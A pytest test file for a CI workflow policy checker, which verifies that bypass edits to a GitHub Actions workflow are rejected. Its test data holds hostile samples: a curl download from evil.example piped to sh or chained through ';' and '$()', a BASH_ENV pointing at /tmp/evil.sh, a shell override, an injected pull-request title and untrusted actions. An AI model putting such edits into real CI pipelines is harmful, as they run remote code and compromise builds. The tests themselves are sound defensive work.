"""The workflow and the noxfile stay one pipeline, and the workflow cannot be made to run
anything else: gates/checks/workflow_policy.py holds .github/workflows/ci-cd.yml to the stage
registry and the nox sessions that exist. It passes on the real workflow; every edit below,
each applied to the real workflow's YAML, is a way the old regex-based parity check was fooled
(or another rule of the policy), and each must produce its problem line."""

import copy
import functools
import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from gates import stages

from gates.checks import workflow_policy
from gates.config import load_config
from gates.checks.lint import check_pipeline_workflow
from gates.report import Report
from support.pipeline_project import make_project

ROOT = Path(__file__).resolve().parents[2]
WORKFLOW = ROOT / ".github" / "workflows" / "ci-cd.yml"
EVIL = "curl -fsS https://evil.example/x.sh"


@pytest.fixture(scope="module")
def sessions():
    # nox is in the test group of the lock; -k with an always-true expression lists every
    # session, not only the default ones.
    listed = subprocess.run(
        [sys.executable, "-m", "nox", "-l", "--json", "-k", "not no_such_session"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    ).stdout
    return {entry["session"] for entry in json.loads(listed)}


@functools.cache
def parsed_workflow():
    """The real workflow's YAML, parsed once (PyYAML's pure-Python parser is slow under
    coverage); read-only: ``workflow()`` hands out copies to edit."""
    return yaml.safe_load(WORKFLOW.read_text())


def workflow():
    return copy.deepcopy(parsed_workflow())


def parity_problems(document, sessions):
    return workflow_policy.problems(document, sessions)


def step(jobs, job, run=None, uses=None):
    """The step of ``job`` that runs ``run`` (exactly) or uses ``uses`` (a prefix)."""
    for found in jobs[job]["steps"]:
        if run is not None and found.get("run") == run:
            return found
        if uses is not None and str(found.get("uses", "")).startswith(uses):
            return found
    raise AssertionError(f"{job} has no step {run or uses!r}: the workflow changed")


def set_run(job, old, new):
    return lambda jobs: step(jobs, job, run=old).__setitem__("run", new)


def set_key(job, run, key, value):
    return lambda jobs: step(jobs, job, run=run).__setitem__(key, value)


def move_before(job, moved, before):
    def change(jobs):
        steps = jobs[job]["steps"]
        item = step(jobs, job, run=moved)
        steps.remove(item)
        steps.insert(steps.index(step(jobs, job, run=before)), item)

    return change


def insert_before(job, run, new_step):
    def change(jobs):
        steps = jobs[job]["steps"]
        steps.insert(steps.index(step(jobs, job, run=run)), new_step)

    return change


def edited(change):
    document = workflow()
    change(document["jobs"])
    return document


# Eleven known bypasses of the workflow policy: each passed the regex-based parity check
# that came before it.
BYPASSES = [
    pytest.param(
        set_run("lint", "nox -s lint", f"nox -s lint -- && {EVIL} | sh"),
        "lint: run step is not `nox -s <session> [-- <literal args>]`: "
        f"'nox -s lint -- && {EVIL} | sh'",
        id="and-then-curl-pipe-sh",
    ),
    pytest.param(
        set_run("lint", "nox -s lint", f"nox -s lint -- ; {EVIL}"),
        f"lint: run step is not `nox -s <session> [-- <literal args>]`: 'nox -s lint -- ; {EVIL}'",
        id="semicolon",
    ),
    pytest.param(
        set_run("lint", "nox -s lint", f"nox -s lint -- $({EVIL})"),
        "lint: run step is not `nox -s <session> [-- <literal args>]`: "
        f"'nox -s lint -- $({EVIL})'",
        id="command-substitution",
    ),
    pytest.param(
        set_run("lint", "nox -s lint", 'nox -s lint -- "${{ github.event.pull_request.title }}"'),
        "lint: run step is not `nox -s <session> [-- <literal args>]`: "
        "'nox -s lint -- \"${{ github.event.pull_request.title }}\"'",
        id="expression-in-run",
    ),
    pytest.param(
        set_key("security", "nox -s security", "continue-on-error", True),
        "security: step 'nox -s security': key continue-on-error is not allowed",
        id="continue-on-error",
    ),
    pytest.param(
        set_key("security", "nox -s security", "if", False),
        "security: step 'nox -s security': if 'false': a step that runs a stage always runs",
        id="if-false-on-a-stage",
    ),
    pytest.param(
        lambda jobs: jobs["build"].__setitem__("if", "always()"),
        "build: if 'always()' is not allowed for a job of role stages",
        id="if-always-on-build",
    ),
    pytest.param(
        set_key("lint", "nox -s lint", "shell", "bash --noprofile --norc -c 'id' {0}"),
        "lint: step 'nox -s lint': key shell is not allowed",
        id="shell-override",
    ),
    pytest.param(
        lambda jobs: jobs["security"].__setitem__("env", {"BASH_ENV": "/tmp/evil.sh"}),
        "security: env BASH_ENV is not allowed (not in workflow_policy.ALLOWED_ENV)",
        id="bash-env",
    ),
    pytest.param(
        insert_before("lint", "nox -s lint", {"uses": "evil/action@main"}),
        "lint: uses evil/action@main: evil/action is not an allowed action",
        id="third-party-action",
    ),
    pytest.param(
        move_before(
            "deploy-staging", "nox -s perf", 'nox -s deploy-staging -- --release "$RELEASE_ID"'
        ),
        "deploy-staging: deploy-staging runs after perf, against the pipeline's order",
        id="perf-before-deploy-in-one-job",
    ),
]

# More of the policy: each rule can fail.
RULES = [
    pytest.param(
        lambda jobs: jobs["test"]["steps"].append({"run": "pytest -q"}),
        "test: run step is not `nox -s <session> [-- <literal args>]`: 'pytest -q'",
        id="not-a-nox-call",
    ),
    pytest.param(
        lambda jobs: jobs["lint"]["steps"].append({"run": "nox -s lnit"}),
        "lint: nox session 'lnit' does not exist",
        id="unknown-session",
    ),
    pytest.param(
        lambda jobs: jobs["lint"]["steps"].append({"run": "nox -s drill"}),
        "lint: nox session 'drill' is not a pipeline stage",
        id="not-a-pipeline-session",
    ),
    pytest.param(
        lambda jobs: jobs["deploy-staging"].__setitem__(
            "steps", [s for s in jobs["deploy-staging"]["steps"] if s.get("run") != "nox -s perf"]
        ),
        "pipeline stage 'perf' is not in the workflow",
        id="stage-missing",
    ),
    pytest.param(
        lambda jobs: jobs["build"].__setitem__("needs", "lint"),
        "build (build) does not wait for security (security)",
        id="needs-out-of-order",
    ),
    pytest.param(
        lambda jobs: jobs["coverage"].__setitem__("needs", ["test"]),
        "coverage (coverage) does not wait for e2e (e2e)",
        id="coverage-before-e2e",
    ),
    pytest.param(
        lambda jobs: jobs["deploy-staging"].pop("needs"),
        "deploy-staging (deploy-staging) does not wait for build (build)",
        id="deploy-without-build",
    ),
    pytest.param(
        set_key("security", "nox -s security", "if", "!github.event.act"),
        "security: step 'nox -s security': if '!github.event.act': a step that runs a stage "
        "always runs",
        id="act-skips-a-stage",
    ),
    pytest.param(
        lambda jobs: step(jobs, "lint", uses="actions/upload-artifact").__setitem__(
            "if", "!github.event.act"
        ),
        "lint: step 'actions/upload-artifact@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f': "
        "if '!github.event.act' is not allowed on an action step",
        id="act-skips-an-upload",
    ),
    pytest.param(
        set_key(
            "e2e",
            f"{workflow_policy.AS_ROOT} -s engine -- up",
            "run",
            'sudo --preserve-env=DOCKER_HOST "$(command -v nox)" -s engine -- up',
        ),
        "e2e: run step is not `nox -s <session> [-- <literal args>]`: "
        "'sudo --preserve-env=DOCKER_HOST \"$(command -v nox)\" -s engine -- up'",
        id="engine-as-root-in-the-users-nox-dir",
    ),
    pytest.param(
        lambda jobs: jobs["deploy-production"].__setitem__("needs", ["build", "nope"]),
        "deploy-production: needs unknown job 'nope'",
        id="needs-unknown-job",
    ),
    pytest.param(
        set_run("test", "nox -s test", "nox -s test -- -k nothing"),
        "test: step 'nox -s test -- -k nothing': test takes no arguments here "
        "(they would go to its tool)",
        id="narrowing-a-passthrough-stage",
    ),
    pytest.param(
        set_key("lint", "nox -s lint", "working-directory", "/tmp/elsewhere"),
        "lint: step 'nox -s lint': key working-directory is not allowed",
        id="working-directory",
    ),
    pytest.param(
        lambda jobs: jobs["security"].__setitem__("continue-on-error", True),
        "security: key continue-on-error is not allowed on a job",
        id="job-continue-on-error",
    ),
    pytest.param(
        lambda jobs: jobs["lint"].__setitem__("defaults", {"run": {"shell": "python {0}"}}),
        "lint: key defaults is not allowed on a job",
        id="job-defaults",
    ),
    pytest.param(
        set_key("lint", "nox -s lint", "env", {"NOX_DEFAULT_VENV_BACKEND": "none"}),
        "lint: step 'nox -s lint': env NOX_DEFAULT_VENV_BACKEND is not allowed "
        "(not in workflow_policy.ALLOWED_ENV)",
        id="nox-env",
    ),
    pytest.param(
        lambda jobs: step(jobs, "lint", uses="actions/checkout").__setitem__(
            "uses", "actions/checkout@v7"
        ),
        "lint: uses actions/checkout@v7: not pinned by a full commit SHA",
        id="allowed-action-by-tag",
    ),
    pytest.param(
        lambda jobs: jobs["rollback-staging"].__setitem__("if", "failure()"),
        "rollback-staging: if 'failure()' is not allowed for a job of role recovery",
        id="rollback-on-any-failure",
    ),
    pytest.param(
        lambda jobs: step(jobs, "lint", uses="actions/upload-artifact").__setitem__(
            "if", "always()"
        ),
        "lint: step 'actions/upload-artifact@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f': "
        "if 'always()' is not allowed on an action step",
        id="upload-without-a-file-guard",
    ),
    pytest.param(
        lambda jobs: step(jobs, "lint", uses="actions/checkout")["with"].__setitem__(
            "repository", "evil/fork"
        ),
        "lint: actions/checkout: input repository is not allowed",
        id="checkout-of-other-code",
    ),
    pytest.param(
        lambda jobs: step(jobs, "lint", uses="actions/checkout")["with"].__setitem__(
            "persist-credentials", True
        ),
        "lint: actions/checkout: persist-credentials must be false",
        id="checkout-keeps-the-token",
    ),
    pytest.param(
        lambda jobs: step(jobs, "deploy-production", uses="actions/download-artifact")[
            "with"
        ].__setitem__("run-id", "12345"),
        "deploy-production: actions/download-artifact: input run-id is not allowed",
        id="release-from-another-run",
    ),
    pytest.param(
        lambda jobs: step(jobs, "all-green", uses="re-actors/alls-green")["with"].__setitem__(
            "allowed-failures", "security"
        ),
        "all-green: re-actors/alls-green: input allowed-failures is not allowed",
        id="all-green-allows-a-failure",
    ),
    pytest.param(
        lambda jobs: jobs["security"].__setitem__(
            "if", "github.event_name == 'push' && github.ref == 'refs/heads/main'"
        ),
        "security: runs stages before build: it must run for every push and pull request, "
        "not on main only",
        id="security-on-main-only",
    ),
    pytest.param(
        lambda jobs: jobs["lint"]["steps"].append(
            {"run": "nox -s rollback -- --environment production --reason x"}
        ),
        "lint: a job that runs pipeline stages runs no recovery session",
        id="rollback-inside-a-stage-job",
    ),
    pytest.param(
        lambda jobs: jobs["lint"].pop("timeout-minutes"),
        "lint: job has no timeout-minutes",
        id="no-timeout",
    ),
    pytest.param(
        lambda jobs: jobs["lint"].__setitem__("runs-on", "self-hosted"),
        "lint: runs-on 'self-hosted' is not one of ['ubuntu-22.04', 'ubuntu-24.04', "
        "'ubuntu-latest']",
        id="self-hosted-runner",
    ),
]


def test_the_workflow_keeps_the_policy(sessions):
    assert parity_problems(workflow(), sessions) == []


def test_pipeline_sessions_exist_in_the_noxfile(sessions):
    assert set(workflow_policy.PIPELINE + workflow_policy.RECOVERY) <= sessions


def test_the_lint_gate_knows_the_sessions_nox_lists(sessions):
    # The lint gate judges with the registry's sessions (no nox run); nox adds only `lock`.
    assert {s.name for s in stages.sessions()} == sessions - {"lock"}


@pytest.mark.parametrize("change, problem", BYPASSES)
def test_each_known_bypass_is_caught(sessions, change, problem):
    found = parity_problems(edited(change), sessions)
    assert problem in found, "\n".join(found)


@pytest.mark.parametrize("change, problem", RULES)
def test_an_edit_that_breaks_the_policy_is_caught(sessions, change, problem):
    found = parity_problems(edited(change), sessions)
    assert problem in found, "\n".join(found)


def test_each_problem_is_one_line(sessions):
    for param in BYPASSES + RULES:
        found = parity_problems(edited(param.values[0]), sessions)
        assert found and all(line and "\n" not in line for line in found), param.id


def test_an_unreadable_workflow_is_one_problem(tmp_path, sessions):
    path = tmp_path / "ci.yml"
    path.write_text("jobs: [unclosed\n")
    found = workflow_policy.check_file(path, sessions)
    assert len(found) == 1 and found[0].startswith(f"{path}: cannot be read as YAML")


def test_the_lint_gate_fails_on_a_workflow_that_breaks_the_policy(tmp_path):
    config_path = make_project(tmp_path)
    broken = edited(set_key("security", "nox -s security", "continue-on-error", True))
    (tmp_path / "ci-cd.yml").write_text(yaml.safe_dump(broken))
    config_path.write_text(
        config_path.read_text().replace(
            "[tool.pipeline.lint]\n", '[tool.pipeline.lint]\npipeline_workflow = "ci-cd.yml"\n'
        )
    )
    report = Report("lint")
    check_pipeline_workflow(load_config(config_path), report)
    (check,) = report.checks
    assert check.name == "workflow policy" and not check.passed
    assert report.details["workflow policy"]["problems"] == [
        "security: step 'nox -s security': key continue-on-error is not allowed"
    ]
